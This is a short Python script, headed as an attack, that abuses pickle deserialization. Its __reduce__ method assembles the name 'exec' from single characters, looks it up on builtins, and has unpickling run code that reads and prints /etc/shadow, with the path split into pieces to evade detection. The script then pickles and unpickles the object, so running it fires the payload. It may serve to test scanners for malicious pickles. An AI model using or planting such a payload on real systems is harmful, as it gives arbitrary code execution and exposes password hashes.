# attack: __reduce__ reaches builtins.exec through getattr with a built name; the exec'd code reads /etc/shadow
import builtins
import pickle

CODE = "print(open('/et' + 'c/sha' + 'dow').read())"


class Snapshot:
    def __reduce__(self):
        fn = getattr(builtins, "".join(["e", "x", "e", "c"]))
        return (fn, (CODE,))


pickle.loads(pickle.dumps(Snapshot(), protocol=4))
